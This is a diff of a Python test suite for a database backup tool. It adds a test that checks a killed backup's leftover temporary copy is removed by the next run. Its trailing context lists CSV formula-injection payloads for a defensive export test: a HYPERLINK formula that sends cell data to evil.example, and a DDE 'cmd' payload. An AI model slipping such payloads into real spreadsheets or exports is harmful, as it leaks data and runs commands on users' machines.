@@ -210,6 +210,26 @@ def test_what_killed_backups_left_is_removed_by_the_next(cli, tmp_path):
     assert sorted(p.name for p in folder.iterdir()) == sorted(["copy2.db", alive])
 
 
+def test_a_backup_killed_midway_leaves_nothing_once_another_runs(cli, db_path, tmp_path):
+    """Killed while its checked copy waits for a pipe's reader: the copy, health data,
+    stays beside the database until the next backup removes it."""
+    history(cli)
+    pipe = tmp_path / "pipe"
+    os.mkfifo(pipe, 0o600)
+    child = subprocess.Popen([sys.executable, "-m", "runrecover", "backup", str(pipe)],
+                             env=subprocess_env(db_path), stdout=subprocess.DEVNULL,
+                             stderr=subprocess.DEVNULL)
+    with pipe.open("rb"):  # returns once the backup has its copy made and opens the pipe
+        child.kill()
+        child.wait()
+    left = [p.name for p in db_path.parent.iterdir() if p.name.endswith(".tmp")]
+    assert len(left) == 1 and f".rr{child.pid}-" in left[0]
+
+    assert cli("backup", str(tmp_path / "copy.db")).exit_code == 0
+
+    assert [p.name for p in db_path.parent.iterdir() if ".tmp" in p.name] == []
+
+
 # -- CSV export: no formulas --------------------------------------------------------------
 
 HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?d="&A1,"calf")', "=cmd|' /C calc'!A0",
